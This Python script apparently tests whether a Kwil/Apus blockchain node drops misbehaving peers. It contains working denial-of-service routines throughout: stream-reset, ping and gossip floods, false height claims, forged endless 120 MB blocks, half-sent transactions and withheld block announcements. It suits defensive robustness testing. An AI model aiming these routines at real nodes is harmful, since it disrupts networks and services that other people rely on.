"""Misbehaving peers: stranger.py KIND[,KIND…] CHAIN PORT [SOURCE [AGAIN]] attacks the node at PORT.

SOURCE is the port of another node, from which some kinds receive announcements; 0 for none. For each stranger whose
connection the node has ended, the program prints a line and, unless AGAIN is 0, starts a new stranger after AGAIN
seconds. It ends with its standard input.
"""

import contextlib
import hashlib
import os
import queue
import struct
import sys
import threading
import time

from peer import (
    DATA, FIN, GOSSIP, PING, PINGS, PUSH, RST, SYN, WINDOW, Closed, Connection, Gossip, Identity, announce_height, field,
    frame, member, multiaddr, sized, token, uvarint, varint)

TRANSACTIONS = "/apus/txann/1.0.0"
RANGES = "/apus/blkrange/1.0.0"
HEIGHTS = ("/kwil/blkheight/1.1.0", "/kwil/blkheight/1.0.0")
ANNOUNCEMENTS = "/kwil/blkann/1.0.0"
# The part of a transaction that a stranger sends before it stalls.
HALF = bytes(29_000_000)
# The number of frames that a flood writes at once.
BATCH = 500


class Stranger:
    def __init__(self, chain, port, source):
        self.chain, self.port, self.source = chain, port, source
        self.identity = Identity()

    def connect(self, handlers=None, **more):
        handlers = handlers or {}
        connection = Connection(self.port, member(self.chain, *handlers), handlers, identity=self.identity, **more)
        time.sleep(0.5)
        return connection

    @contextlib.contextmanager
    def listening(self, handlers):
        """A connection to the source, from which the stranger receives announcements."""
        connection = Connection(self.source, member(self.chain), handlers)
        try:
            yield
        finally:
            connection.close()

    def flood(self, connection, make):
        """Sends the results of `make` as fast as the node reads, until the node ends the connection."""
        while not connection.ended:
            connection.send(make())

    # Cheap messages

    def rapid_reset(self):
        connection = self.connect()

        def make():
            numbers = [connection.number() for _ in range(BATCH)]
            return b"".join(frame(WINDOW, SYN, n, 0) + frame(WINDOW, RST, n, 0) for n in numbers)

        self.flood(connection, make)

    def silent_streams(self):
        connection = self.connect()
        self.flood(connection, lambda: b"".join(frame(WINDOW, SYN, connection.number(), 0) for _ in range(BATCH)))

    def pings(self):
        batch = b"".join(frame(PING, SYN, 0, n) for n in range(BATCH))
        self.flood(self.connect(), lambda: batch)

    def unread_pings(self):
        batch = b"".join(frame(PING, SYN, 0, n) for n in range(BATCH))
        connection = Connection(self.port, member(self.chain), identity=self.identity, reads=False)
        while True:
            connection.send(batch)

    def packed_pings(self):
        """Sends thousands of pings in each frame."""
        connection = self.connect()
        size = 32 * 1875

        def ping():
            stream = connection.open(PINGS)
            while not connection.ended:
                stream.write(bytes(size))
                stream.read_exactly(size)

        self.crowd(ping, 8)
        self.wait(connection)

    def empty_messages(self):
        """Sends empty Noise messages."""
        connection = self.connect()
        pipe = connection.pipe
        while not connection.ended:
            with pipe.lock:
                empty = [pipe.sending.encrypt(b"") for _ in range(BATCH)]
                pipe.socket.sendall(b"".join(struct.pack(">H", len(message)) + message for message in empty))

    def window_updates(self):
        connection = self.connect()
        stream = connection.open(PINGS)
        self.flood(connection, lambda: frame(WINDOW, 0, stream.number, 1) * BATCH)

    def empty_frames(self):
        connection = self.connect()
        stream = connection.open(PINGS)
        self.flood(connection, lambda: frame(DATA, 0, stream.number, 0) * BATCH)

    def single_bytes(self):
        """Sends an endless message with one byte in each frame."""
        connection = self.connect()
        number = connection.open("/kwil/tx/1.0.0").number
        self.flood(connection, lambda: frame(DATA, 0, number, 1, b"x") * 100)

    def identify_pushes(self):
        connection = self.connect()
        pushes = []
        for turn in range(2):
            connection.addresses = [multiaddr(1024 + 2 * n + turn, f"127.0.0.{n + 1}") for n in range(64)]
            connection.protocols = [*member(self.chain), *(f"/x/{os.urandom(40).hex()}" for _ in range(500))]
            told = connection.told()
            pushes.append(token("/multistream/1.0.0") + token(PUSH) + uvarint(len(told)) + told)

        def make():
            number = connection.number()
            push = pushes[number // 2 % 2]
            return frame(DATA, SYN, number, len(push), push) + frame(WINDOW, FIN, number, 0)

        self.flood(connection, make)

    def unknown_protocols(self):
        connection = self.connect()
        offers = token("/no/such/protocol/1.0.0") * 100

        def make():
            number = connection.number()
            choice = token("/multistream/1.0.0") + offers
            return frame(DATA, SYN, number, len(choice), choice) + frame(WINDOW, RST, number, 0)

        self.flood(connection, make)

    def gossip_control(self):
        connection = self.connect({GOSSIP: lambda stream: stream.drain()})
        gossip = Gossip(connection)
        gossip.subscribe("acks")
        while not connection.ended:
            wanted = b"".join(field(1, field(1, b"acks") + field(2, os.urandom(20))) for _ in range(BATCH))
            gossip.send(field(3, wanted))

    def gossip_messages(self):
        """Sends signed messages without meaning."""
        connection = self.connect({GOSSIP: lambda stream: stream.drain()})
        gossip = Gossip(connection)
        gossip.subscribe("acks")
        gossip.graft("acks")
        while not connection.ended:
            gossip.send(b"".join(field(2, gossip.message("acks", os.urandom(120))) for _ in range(20)))

    # Claims

    def false_height(self):
        """Claims a height, and answers every request for a block with "busy"."""

        def busy(stream):
            stream.read(8)
            stream.close()

        connection = self.connect({name: busy for name in HEIGHTS})
        while not connection.ended:
            announce_height(connection, 1_000_000)
            time.sleep(5)

    def invented_transactions(self):
        connection = self.connect({TRANSACTIONS: lambda stream: stream.drain()})
        while not connection.ended:
            try:
                stream = connection.open(TRANSACTIONS, waits=False)
                while not connection.ended:
                    for _ in range(8):
                        stream.write(b"\1" + struct.pack("<H", 1024) + os.urandom(32 * 1024))
                    time.sleep(1.5)
            except (Closed, queue.Empty):
                time.sleep(0.5)

    def announcements(self):
        """Announces invented transactions as fast as the node reads them."""
        connection = self.connect({TRANSACTIONS: lambda stream: stream.drain()})
        stream = connection.open(TRANSACTIONS, waits=False)
        while not connection.ended:
            stream.write(b"\1" + struct.pack("<H", 1024) + os.urandom(32 * 1024))

    def silent_announcer(self):
        """Announces transactions, some received and some invented, and never sends any."""
        connection = self.connect({TRANSACTIONS: lambda stream: stream.drain()})
        stream = connection.open(TRANSACTIONS, waits=False)

        def heard(ear):
            while ear.read(1):
                count = ear.read(2)
                stream.write(b"\1" + count + ear.read(32 * struct.unpack("<H", count)[0]))

        with self.listening({TRANSACTIONS: heard}):
            while not connection.ended:
                stream.write(b"\1\1\0" + os.urandom(32))
                time.sleep(2)

    # Bytes and places

    def half_sent_transactions(self):
        connection = self.connect()

        def offer():
            while not connection.ended:
                try:
                    stream = connection.open("/kwil/txann/1.0.0", waits=False)
                    stream.write(os.urandom(32))
                    stream.read_token()
                    stream.read_token()
                    if stream.read(3) == b"get":
                        stream.write(HALF)
                        stream.read(1, timeout=600)
                except (Closed, queue.Empty):
                    time.sleep(0.1)

        self.crowd(offer, 60)
        self.wait(connection)

    def endless_blocks(self):
        """Answers each request for a block with one of 120 MB that it never finishes."""
        info, header = self.sample()
        size = 120 << 20

        def serve(stream):
            height = stream.read_exactly(8)
            forged = header[:2] + height + struct.pack("<I", 1) + header[14:]
            body = forged + uvarint(65) + bytes(65)
            rest = size - len(body) - 5
            stream.write(
                b"\1" + hashlib.sha256(forged).digest() + sized(info) + varint(size) + body + uvarint(rest))
            for _ in range(rest // 65536 - 1):
                stream.write(bytes(65536))
            time.sleep(600)

        connection = self.connect({name: serve for name in HEIGHTS})
        while not connection.ended:
            announce_height(connection, 1_000_000)
            time.sleep(5)

    def sample(self):
        """The commit info and header of the first block, from a node."""
        source = Connection(self.source or self.port, member(self.chain))
        stream = source.open(HEIGHTS[0])
        stream.write(struct.pack("<q", 1))
        answer = stream.read_all()
        source.close()

        def cut(data):
            number = shift = at = 0
            while True:
                number |= (data[at] & 0x7F) << shift
                shift += 7
                at += 1
                if data[at - 1] < 0x80:
                    return data[at:at + (number >> 1)], data[at + (number >> 1):]

        info, rest = cut(answer[33:])
        return info, cut(rest)[0][:215]

    def slow_reader(self):
        """Requests ranges of blocks and does not read them."""
        connection = self.connect({RANGES: lambda stream: stream.drain()})

        def ask():
            while not connection.ended:
                try:
                    stream = connection.open(RANGES, waits=False)
                    stream.reads = False
                    stream.write(struct.pack("<qIIB", 1, 1024, 64 << 20, 0))
                    while stream.read(timeout=600):
                        pass
                except (Closed, queue.Empty):
                    time.sleep(0.1)

        self.crowd(ask, 8)
        self.wait(connection)

    def withheld_blocks(self):
        """Announces each new block at once, and never sends it."""
        connection = self.connect()

        def heard(stream):
            announcement = stream.read_exactly(40)
            for _ in range(3):
                length = bytearray()
                while not length or length[-1] >= 0x80:
                    length += stream.read_exactly(1)
                count = sum((byte & 0x7F) << 7 * at for at, byte in enumerate(length)) >> 1
                announcement += bytes(length) + stream.read_exactly(count)
            stream.close()
            for _ in range(100):
                if connection.ended:
                    return
                offer = connection.open(ANNOUNCEMENTS)
                offer.write(announcement)
                if offer.read(3) == b"get":
                    return
                time.sleep(0.05)

        with self.listening({ANNOUNCEMENTS: heard}):
            self.wait(connection)

    def crowd(self, work, count):
        def until_closed():
            with contextlib.suppress(Closed, queue.Empty):
                work()

        for _ in range(count):
            threading.Thread(target=until_closed, daemon=True).start()

    def wait(self, connection):
        while not connection.ended:
            time.sleep(0.1)


KINDS = [name for name in vars(Stranger) if name not in (
    "connect", "listening", "flood", "sample", "crowd", "wait") and not name.startswith("_")]


def visit(kind, chain, port, source, again):
    """Runs one stranger after another. When the node ends a connection, prints the seconds, peer ID and reason."""
    while True:
        start = time.monotonic()
        stranger = Stranger(chain, port, source)
        try:
            getattr(stranger, kind)()
            reason = "the node ended the connection"
        except (Closed, OSError, queue.Empty) as error:
            reason = repr(error)
        # In one piece, since other strangers print as well.
        sys.stdout.write(f"gone {kind} {time.monotonic() - start:.1f} {stranger.identity.text} {reason}\n")
        sys.stdout.flush()
        if not again:
            return
        time.sleep(again)


def main():
    kinds, chain = sys.argv[1].split(","), sys.argv[2]
    port, source, again = [int(argument) for argument in [*sys.argv[3:], "0", "0"][:3]]
    for kind in kinds:
        threading.Thread(target=visit, args=(kind, chain, port, source, again), daemon=True).start()
    sys.stdin.read()


if __name__ == "__main__":
    main()
